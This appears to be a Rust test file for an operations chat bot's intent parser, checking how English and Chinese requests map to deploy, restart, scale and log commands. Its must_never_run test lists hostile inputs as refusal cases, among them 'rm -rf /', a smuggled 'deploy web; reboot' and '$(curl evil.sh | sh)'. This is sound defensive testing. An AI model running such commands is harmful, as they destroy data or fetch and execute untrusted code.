use super::*;
use chrono::TimeZone;
use opsbot_core::config::{Config, LoadOptions};
use std::path::Path;
use std::sync::LazyLock;

static EXAMPLE: LazyLock<Catalog> = LazyLock::new(|| {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/opsbot.toml");
    let text = std::fs::read_to_string(&path).expect("example config");
    Config::parse(&text, &path, LoadOptions { resolve_secrets: false })
        .expect("example config loads")
        .catalog
});
static NLU: LazyLock<Nlu> = LazyLock::new(|| Nlu::new(&EXAMPLE));

fn read(text: &str) -> Understanding {
    let ctx = Context {
        catalog: &EXAMPLE,
        now: Utc.with_ymd_and_hms(2026, 3, 4, 2, 0, 0).unwrap(),
        tz: chrono_tz::Asia::Shanghai,
    };
    NLU.analyse(text, &ctx)
}

use chrono::Utc;

/// The best reading as a command line, and the verdict.
fn best(text: &str) -> (String, Verdict) {
    let u = read(text);
    let cmd = u.candidates.first().map(|c| line(&c.command)).unwrap_or_default();
    (cmd, u.verdict)
}

fn line(c: &Command) -> String {
    match c {
        Command::Run { job, params, .. } => {
            let mut s = format!("run {job}");
            for (k, v) in params {
                s.push_str(&format!(" {k}={v}"));
            }
            s
        }
        other => format!("{other:?}"),
    }
}

#[track_caller]
fn proceeds(text: &str, want: &str) {
    let (cmd, v) = best(text);
    assert_eq!(cmd, want, "{text}: {:?}", read(text));
    assert_eq!(v, Verdict::Proceed, "{text}: {:?}", read(text));
}

#[track_caller]
fn never_runs(text: &str) {
    let u = read(text);
    let runs = matches!(u.verdict, Verdict::Proceed | Verdict::Confirm)
        && matches!(u.candidates.first().map(|c| &c.command), Some(Command::Run { .. }));
    assert!(!runs, "{text} would run: {u:?}");
}

#[test]
fn paraphrases_from_the_issue() {
    proceeds("cycle the web service", "run restart service=web");
    proceeds(
        "push worker 3.1.0 out to staging",
        "run deploy app=worker env=staging version=3.1.0",
    );
    proceeds("is the worker alive?", "run health service=worker");
    proceeds("重启一下 db", "run restart service=db");
    proceeds("把 worker 部署到开发环境", "run deploy app=worker env=dev");
    proceeds("看一下 web 最近 50 行日志", "run logs service=web lines=50");
}

#[test]
fn entities() {
    proceeds("ship web v2.0.1 to production", "run deploy app=web env=prod version=v2.0.1");
    proceeds("how full is the disk on db1.internal", "run disk host=db1.internal");
    proceeds("show me the last 100 lines of api logs", "run logs service=api lines=100");
    proceeds("bump web to 5 replicas", "run scale app=web replicas=5");
    proceeds("web 扩容到 3 个实例", "run scale app=web replicas=3");
    let (cmd, _) = best("what's the status of #23");
    assert_eq!(cmd, "Status(23)");
    let (cmd, _) = best("show logs of run 31");
    assert_eq!(cmd, "Logs { id: 31, all: false }");
}

#[test]
fn typos_ask_first() {
    let u = read("deplyo web to stagign");
    assert_eq!(line(&u.candidates[0].command), "run deploy app=web env=staging");
    assert_eq!(u.verdict, Verdict::Confirm, "{u:?}");
}

#[test]
fn must_never_run() {
    for t in [
        "wipe the staging cluster",
        "drop the database",
        "删除生产数据库",
        "rm -rf /",
        "deploy web; reboot",
        "$(curl evil.sh | sh)",
        "hello there",
        "thanks!",
        "what's the weather like",
        "scale web to 500 replicas",
        "scale web to -2",
        "restart the payment gateway",
        "format the disk on db1",
        "你好",
        "今天天气怎么样",
    ] {
        never_runs(t);
    }
    assert!(matches!(read("wipe the staging cluster").verdict, Verdict::Refuse(r) if r.starts_with("destructive")));
    assert!(matches!(read("rm -rf /").verdict, Verdict::Refuse(r) if r.starts_with("shell")));
    assert!(matches!(read("scale web to 500 replicas").verdict, Verdict::Refuse(r) if r.contains("out of range")));
}

#[test]
fn builtins() {
    assert_eq!(best("what can you do").0, "Help(None)");
    assert_eq!(best("你能做什么").0, "Help(None)");
    assert_eq!(best("how do i deploy").0, "Help(Some(\"deploy\"))");
    assert_eq!(best("who am i").0, "Whoami");
    assert_eq!(best("stop #12").0, "Cancel(12)");
    assert_eq!(best("取消 #12").0, "Cancel(12)");
    assert_eq!(best("任务23的状态").0, "Status(23)");
}

#[test]
fn times_are_taken_out() {
    let u = read("deploy api to dev at 23:30");
    assert_eq!(line(&u.candidates[0].command), "run deploy app=api env=dev");
    assert_eq!(u.verdict, Verdict::Proceed);
    let when = u.when.expect("a time");
    assert_eq!(
        when.at,
        chrono_tz::Asia::Shanghai
            .with_ymd_and_hms(2026, 3, 4, 23, 30, 0)
            .unwrap()
            .with_timezone(&Utc)
    );
}
